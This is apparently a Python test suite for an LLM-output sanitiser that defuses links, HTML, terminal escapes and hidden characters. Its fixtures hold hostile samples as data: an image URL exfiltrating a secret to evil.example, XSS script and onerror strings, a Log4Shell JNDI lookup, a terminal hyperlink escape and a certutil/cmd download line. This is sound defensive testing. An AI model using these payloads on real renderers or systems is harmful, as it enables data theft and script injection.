"""What is shown holds nothing active, whatever it was; and showing it again changes nothing."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from icelos.llm.output import REMOVED, addresses, is_open, shown

PARTS = st.sampled_from(
    [
        "[", "]", "(", ")", "!", "<", ">", "](", "![", "][", "]:", "<img src=", "<a href='", "</a>", "<!--",
        "-->", "<script>", "https://evil.example/?q=", "http://ok.example/a", "//evil.example/x",
        "www.evil.example", "evil.example/p?d=1", "javascript:", "data:", "mailto:", "file://", "ldap://",
        "\x1b]8;;", "\x1b\\", "\x07", "\x1b[31m", "\x9b1m", "\x9d", "\u200b", "\u202e", "\U000e0041",
        "&lt;", "&#60;", "`", "```", "~~~", "\n", " ", "a", "1", ":", "/", "?", "\"", "'", "\\", "x", ".",
        "AKIAIOSFODNN7EXAMPLE", "|", "*", "_", "#", "\t", "﹤", "＜", "ftp://", "HTTPS://", "vbscript :",
        "xn--", "@", "%00", "\r", "‹", "›",
    ]
)  # fmt: skip
HOSTILE = st.one_of(st.text(max_size=120), st.lists(PARTS, max_size=40).map("".join))
SOURCE = "See http://ok.example/a for more, and https://good.example/x?y=1."
OPENED = re.compile(r"\b(?:javascript|vbscript|data|file|blob|mailto):(?=[^\s:])", re.IGNORECASE)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.found.append(tag)

    def handle_comment(self, data: str) -> None:
        self.found.append(data)


def is_inert(text: str) -> bool:
    """No tag for a browser, no link or image for a Markdown renderer, no control for a terminal."""
    tags = _Tags()
    tags.feed(text)
    tags.close()
    rendered = MarkdownIt("commonmark", {"html": True}).parse(text)
    kinds = {child.type for token in rendered for child in token.children or ()} | {t.type for t in rendered}
    active = kinds & {"link_open", "image", "html_inline", "html_block"}
    return (
        not tags.found
        and not active
        and not OPENED.search(text)
        and not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)
    )


@settings(max_examples=400, deadline=None)
@given(HOSTILE)
def test_nothing_active_comes_out_and_twice_is_once(text: str) -> None:
    once = shown(text, sources=[SOURCE])
    assert is_inert(once), once
    assert shown(once, sources=[SOURCE]) == once
    assert addresses([once]) <= addresses([SOURCE])


@settings(max_examples=150, deadline=None)
@given(HOSTILE)
def test_without_sources_no_address_comes_out(text: str) -> None:
    assert not addresses([shown(text)])


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("![x](https://evil.example/?q=secret)", "x"),
        ("[Log in](https://good.example/x?y=1)", "Log in (https://good.example/x?y=1)"),
        ("[https://bank.example](http://ok.example/a)", f"{REMOVED} (http://ok.example/a)"),
        ("[Log in](https://evil.example)", f"Log in ({REMOVED})"),
        ("[Log in][1]\n[1]: https://evil.example 'x'", f"Log in\n1 -  {REMOVED} 'x'"),
        ("Go to https://evil.example/?q=1.", f"Go to {REMOVED}."),
        ("(http://ok.example/a)", "(http://ok.example/a)"),
        ("http://ok.example/a?more=data", REMOVED),
        ("a <script>alert(1)</script> tag", "a ‹script›alert(1)‹/script› tag"),
        ("<img src=x onerror=alert(1)", "‹img src=x onerror=alert(1)"),
        ("\x1b]8;;https://evil.example\x07open\x1b]8;;\x07 \x1b[31mred\x1b[0m", "open red"),
        ("javascript:alert(1)", "javascript: alert(1)"),
        ("${jndi:ldap://evil.example/a}", "${jndi:ldap[:]//evil.example/a}"),
        ("the key AKIAIOSFODNN7EXAMPLE leaked", "the key (aws-key hidden) leaked"),
        ("ig\u200bno\U000e0041re", "ignore"),
    ],
)
def test_what_becomes_of_it(text: str, safe: str) -> None:
    assert shown(text, sources=[SOURCE]) == safe


@pytest.mark.parametrize(
    "text",
    [
        "CVE-2021-44228 is fixed in 2.17.1; see CWE-502, T1110.003 and ICSA-22-006-01.",
        "Run certutil -f -urlcache, then C:\\Windows\\System32\\cmd.exe /c whoami.",
        "a < b and c > d, 1<2; x->y; 12:30:45; key: value; fe80::1; mail bob@example.org",
        "The hash is d41d8cd98f00b204e9800998ecf8427e and the rule is 'proc_creation_win'.",
        "Naïve Привет 日本語 [K7f2] (see below).",
        "The path /etc/passwd; the registry HKLM\\Software; a domain evil.example.",
    ],
)
def test_ordinary_text_stays(text: str) -> None:
    assert shown(text) == text


def test_addresses_of_the_web_alone_may_stand_in_a_field() -> None:
    assert is_open("https://attack.mitre.org/techniques/T1110/")
    assert not any(
        map(is_open, ("javascript:alert(1)", "https://x y", "ftp://x", "//x.example", "data:x", ""))
    )
